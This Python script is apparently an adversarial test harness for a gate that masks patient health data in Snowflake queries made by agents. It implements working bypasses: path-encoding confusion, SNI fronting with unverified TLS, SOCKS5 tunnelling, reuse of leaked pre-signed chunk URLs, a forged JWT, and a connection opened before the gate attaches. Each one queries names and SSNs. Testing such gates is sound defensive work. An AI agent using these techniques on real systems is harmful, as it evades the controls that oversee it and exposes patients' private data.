"""An attacker inside the agents' cgroup: the ways around a data-path gate, tried for real.

Run like the ordinary agent (`agent.py`: same argv for the account and credentials, same
environment, /etc/hosts and trust bundle from REQUESTS_CA_BUNDLE), plus `--attack NAME` and the
attack's own options. Every attack prints JSON lines; each line carries `received`: everything
the attacker got back, decoded as text (gzip inflated), so a test can search it for PHI.

Attacks:
- `path_confusion`: a masked query through the driver, then raw GETs of its result under
  percent-encoded and dot-segment spellings of `/queries/<id>/result` with a pre-signed-looking
  query string.
- `fronting`: raw TLS to the account host's address with another SNI (`--sni`) or none, then a
  login and a query for raw PHI.
- `fetch`: GET `--url` (with `--header NAME:VALUE`), optionally with the token of a fresh
  driver login of its own (`--login`).
- `leak_chunks`: a chunked query through the driver; prints the chunk URLs and headers the
  driver received (run where it is not intercepted, this is a pre-signed URL obtained outside).
- `socks5`: SOCKS5 to `--proxy HOST:PORT`, a tunnel to the account host, TLS (unverified)
  inside, a login and a query for raw PHI.
- `hold_chunk`: a chunked masked query through the driver; prints one chunk URL, then waits for
  a line on stdin, fetches that URL itself and prints what it got.
- `sql_api`: SQL API requests with a key-pair JWT naming `--user`: a statement, and a result
  fetch by handle `--handle`.
- `early_connection`: a TLS connection and a login made before Tollgate is attached; prints
  `ready`, waits for a line on stdin, then sends a query for raw PHI on that same connection.
"""

from __future__ import annotations

import argparse
import base64
import gzip
import http.client
import json
import os
import re
import socket
import ssl
import sys
import uuid
from typing import Any

PHI_QUERY = "SELECT ID, NAME, SSN FROM CLINICAL.EHR.PATIENTS ORDER BY ID"


def text(b: bytes) -> str:
    """Everything in `b` a person could read: gzip inflated, and any Arrow `rowsetBase64` of a
    JSON answer decoded and appended (its values are plain bytes inside the IPC stream)."""
    if b[:2] == b"\x1f\x8b":
        try:
            b = gzip.decompress(b)
        except Exception:
            pass
    out = b.decode("latin-1")
    for m in re.finditer(r'"rowsetBase64"\s*:\s*"([A-Za-z0-9+/=]*)"', out):
        try:
            out += "\n" + base64.b64decode(m.group(1)).decode("latin-1")
        except Exception:
            pass
    return out


def emit(**kw: Any) -> None:
    print(json.dumps(kw), flush=True)


def host_of(a: argparse.Namespace) -> str:
    return f"{a.account}.snowflakecomputing.com"


def verified_context() -> ssl.SSLContext:
    return ssl.create_default_context(cafile=os.environ.get("REQUESTS_CA_BUNDLE"))


def unverified_context() -> ssl.SSLContext:
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    return ctx


def driver(a: argparse.Namespace, **extra: Any) -> Any:
    import snowflake.connector

    kw: dict[str, Any] = {"account": a.account, "user": a.user, "password": a.password, "paramstyle": "qmark"}
    for k in ("database", "schema", "warehouse", "role"):
        if getattr(a, k):
            kw[k] = getattr(a, k)
    kw.update(extra)
    return snowflake.connector.connect(**kw)


def raw_request(sock: Any, method: str, path: str, host: str, headers: dict[str, str], body: bytes = b"") -> bytes:
    """One HTTP/1.1 request written byte for byte (no client-side normalisation); the reply."""
    lines = [f"{method} {path} HTTP/1.1", f"Host: {host}", "Connection: close", f"Content-Length: {len(body)}"]
    lines += [f"{k}: {v}" for k, v in headers.items()]
    sock.sendall(("\r\n".join(lines) + "\r\n\r\n").encode() + body)
    out = b""
    while True:
        try:
            chunk = sock.recv(65536)
        except (ConnectionError, ssl.SSLError, OSError) as e:
            out += f"\n<recv failed: {type(e).__name__}: {e}>".encode()
            break
        if not chunk:
            break
        out += chunk
    return out


def login_body(a: argparse.Namespace) -> bytes:
    return json.dumps({"data": {"ACCOUNT_NAME": a.account.upper(), "LOGIN_NAME": a.user, "PASSWORD": a.password, "CLIENT_APP_ID": "PythonConnector", "CLIENT_APP_VERSION": "4.8.1", "SESSION_PARAMETERS": {}}}).encode()


def login_and_query(make_socket: Any, a: argparse.Namespace, host: str) -> dict[str, Any]:
    """Login then a PHI query, each on a fresh connection from `make_socket()`."""
    got = b""
    try:
        s = make_socket()
        resp = raw_request(s, "POST", f"/session/v1/login-request?request_id={uuid.uuid4()}&databaseName=CLINICAL&schemaName=EHR", host, {"Content-Type": "application/json", "Accept": "application/json"}, login_body(a))
        got += resp
        token = ""
        body = resp.split(b"\r\n\r\n", 1)[-1]
        try:
            token = json.loads(body)["data"]["token"]
        except Exception:
            pass
        if token:
            s = make_socket()
            q = json.dumps({"sqlText": PHI_QUERY, "sequenceId": 1, "asyncExec": False}).encode()
            got += raw_request(s, "POST", f"/queries/v1/query-request?requestId={uuid.uuid4()}", host, {"Content-Type": "application/json", "Accept": "application/json", "Authorization": f'Snowflake Token="{token}"'}, q)
        return {"ok": bool(token), "received": text(got)}
    except Exception as e:
        return {"ok": False, "error": f"{type(e).__name__}: {e}", "received": text(got)}


def attack_path_confusion(a: argparse.Namespace) -> None:
    conn = driver(a)
    cur = conn.cursor()
    # Asynchronously, so that the result stays fetchable by query id (as on real Snowflake).
    cur.execute_async(PHI_QUERY)
    qid = cur.sfqid
    token = conn.rest.token
    host = host_of(a)
    # The result as the driver would fetch it: masked.
    s = verified_context().wrap_socket(socket.create_connection((host, 443), timeout=30), server_hostname=host)
    got = raw_request(s, "GET", f"/queries/{qid}/result", host, {"Authorization": f'Snowflake Token="{token}"', "Accept": "application/json"})
    emit(step="masked_query", ok=True, query_id=qid, received=text(got))
    spellings = [
        f"/queries/{qid}/r%65sult?X-Amz-Signature=x",
        f"/queries%2F{qid}%2Fresult?X-Amz-Signature=x",
        f"/queries/{qid}/./result?X-Amz-Signature=x",
        f"//queries//{qid}/result?X-Amz-Signature=x",
        f"/queries/x/../{qid}/result?X-Amz-Signature=x",
        f"/%71ueries/{qid}/result?sig=x",
        f"/queries/{qid}/result%3F?X-Goog-Signature=x",
        f"/queries/{qid}/result?X-Amz-Signature=x",
    ]
    for path in spellings:
        try:
            s = verified_context().wrap_socket(socket.create_connection((host, 443), timeout=30), server_hostname=host)
            got = raw_request(s, "GET", path, host, {"Authorization": f'Snowflake Token="{token}"', "Accept": "application/json"})
            status = got.split(b"\r\n", 1)[0].decode("latin-1")
            emit(step="get", path=path, status=status, received=text(got))
        except Exception as e:
            emit(step="get", path=path, error=f"{type(e).__name__}: {e}", received="")
    conn.close()


def attack_fronting(a: argparse.Namespace) -> None:
    host = host_of(a)
    ip = socket.gethostbyname(host)
    sni = a.sni or None

    def make() -> Any:
        return unverified_context().wrap_socket(socket.create_connection((ip, 443), timeout=30), server_hostname=sni)

    emit(step="fronting", sni=sni, **login_and_query(make, a, host))


def attack_socks5(a: argparse.Namespace) -> None:
    host = host_of(a)
    phost, pport = a.proxy.rsplit(":", 1)

    def make() -> Any:
        s = socket.create_connection((phost, int(pport)), timeout=30)
        s.sendall(b"\x05\x01\x00")
        if s.recv(2) != b"\x05\x00":
            raise ConnectionError("SOCKS5 method refused")
        name = host.encode()
        s.sendall(b"\x05\x01\x00\x03" + bytes([len(name)]) + name + (443).to_bytes(2, "big"))
        reply = s.recv(10)
        if len(reply) < 2 or reply[1] != 0:
            raise ConnectionError(f"SOCKS5 CONNECT refused: {reply.hex()}")
        return unverified_context().wrap_socket(s, server_hostname=host)

    emit(step="socks5", **login_and_query(make, a, host))


def fetch(url: str, headers: dict[str, str]) -> dict[str, Any]:
    from urllib.parse import urlsplit

    u = urlsplit(url)
    path = u.path + (f"?{u.query}" if u.query else "")
    try:
        s = unverified_context().wrap_socket(socket.create_connection((u.hostname, u.port or 443), timeout=30), server_hostname=u.hostname)
        got = raw_request(s, "GET", path, u.hostname, headers)
        return {"status": got.split(b"\r\n", 1)[0].decode("latin-1"), "received": text(got.split(b"\r\n\r\n", 1)[-1]), "bytes": len(got)}
    except Exception as e:
        return {"error": f"{type(e).__name__}: {e}", "received": ""}


def attack_fetch(a: argparse.Namespace) -> None:
    headers = dict(h.split(":", 1) for h in a.header)
    if a.login:
        conn = driver(a)
        headers["Authorization"] = f'Snowflake Token="{conn.rest.token}"'
    emit(step="fetch", url_host=a.url.split("/")[2], **fetch(a.url, headers))


def chunk_batches(cur: Any) -> list[dict[str, Any]]:
    out = []
    for b in cur.get_result_batches()[1:]:
        info = getattr(b, "_remote_chunk_info", None)
        if info is not None:
            out.append({"url": info.url, "headers": dict(getattr(b, "_chunk_headers", None) or {})})
    return out


def attack_leak_chunks(a: argparse.Namespace) -> None:
    conn = driver(a)
    cur = conn.cursor()
    cur.execute(a.sql or "SELECT ID, NAME, SSN FROM CLINICAL.EHR.PATIENTS_BULK ORDER BY ID")
    emit(step="leak", chunks=chunk_batches(cur)[:2], received="")
    conn.close()


def attack_hold_chunk(a: argparse.Namespace) -> None:
    conn = driver(a)
    cur = conn.cursor()
    cur.execute(a.sql or "SELECT ID, NAME, SSN FROM CLINICAL.EHR.PATIENTS_BULK ORDER BY ID")
    chunks = chunk_batches(cur)
    emit(step="holding", chunk=chunks[0] if chunks else None, received="")
    sys.stdin.readline()
    if chunks:
        emit(step="own_fetch", **fetch(chunks[0]["url"], chunks[0]["headers"]))
    conn.close()


def attack_sql_api(a: argparse.Namespace) -> None:
    host = host_of(a)
    b64 = lambda d: base64.urlsafe_b64encode(json.dumps(d).encode()).rstrip(b"=").decode()
    jwt = f'{b64({"alg": "RS256", "typ": "JWT"})}.{b64({"iss": f"{a.account.upper()}.{a.user.upper()}.SHA256:x", "sub": f"{a.account.upper()}.{a.user.upper()}", "iat": 0, "exp": 4102444800})}.c2ln'
    headers = {"Authorization": f"Bearer {jwt}", "X-Snowflake-Authorization-Token-Type": "KEYPAIR_JWT", "Content-Type": "application/json", "Accept": "application/json"}
    ctx = verified_context()
    body = json.dumps({"statement": a.sql or PHI_QUERY, "role": a.role or "ANALYST", "database": "CLINICAL", "schema": "EHR"}).encode()
    s = ctx.wrap_socket(socket.create_connection((host, 443), timeout=30), server_hostname=host)
    got = raw_request(s, "POST", f"/api/v2/statements?requestId={uuid.uuid4()}", host, headers, body)
    emit(step="submit", status=got.split(b"\r\n", 1)[0].decode("latin-1"), received=text(got))
    if a.handle:
        s = ctx.wrap_socket(socket.create_connection((host, 443), timeout=30), server_hostname=host)
        got = raw_request(s, "GET", f"/api/v2/statements/{a.handle}", host, headers)
        emit(step="status", status=got.split(b"\r\n", 1)[0].decode("latin-1"), received=text(got))


def attack_early_connection(a: argparse.Namespace) -> None:
    host = host_of(a)
    s = verified_context().wrap_socket(socket.create_connection((host, 443), timeout=30), server_hostname=host)

    def send(method: str, path: str, headers: dict[str, str], body: bytes) -> bytes:
        lines = [f"{method} {path} HTTP/1.1", f"Host: {host}", f"Content-Length: {len(body)}"] + [f"{k}: {v}" for k, v in headers.items()]
        s.sendall(("\r\n".join(lines) + "\r\n\r\n").encode() + body)
        resp = http.client.HTTPResponse(s)
        resp.begin()
        return resp.read()

    got = send("POST", f"/session/v1/login-request?request_id={uuid.uuid4()}", {"Content-Type": "application/json"}, login_body(a))
    token = json.loads(got)["data"]["token"]
    emit(step="ready", received="")
    sys.stdin.readline()
    try:
        q = json.dumps({"sqlText": PHI_QUERY, "sequenceId": 1}).encode()
        got = send("POST", f"/queries/v1/query-request?requestId={uuid.uuid4()}", {"Content-Type": "application/json", "Authorization": f'Snowflake Token="{token}"'}, q)
        emit(step="query", ok=True, received=text(got))
    except Exception as e:
        emit(step="query", ok=False, error=f"{type(e).__name__}: {e}", received="")


def main() -> int:
    p = argparse.ArgumentParser(description="attacks on the data path")
    for flag in ("--account", "--user", "--password", "--database", "--schema", "--warehouse", "--role", "--authenticator", "--token", "--statements"):
        p.add_argument(flag)
    p.add_argument("--session-param", action="append", default=[])
    p.add_argument("--concurrent", action="store_true")
    p.add_argument("--attack", required=True)
    p.add_argument("--sni", default="")
    p.add_argument("--proxy", default="")
    p.add_argument("--url", default="")
    p.add_argument("--header", action="append", default=[])
    p.add_argument("--login", action="store_true")
    p.add_argument("--sql", default="")
    p.add_argument("--handle", default="")
    a = p.parse_args()
    globals()[f"attack_{a.attack}"](a)
    return 0


if __name__ == "__main__":
    sys.exit(main())
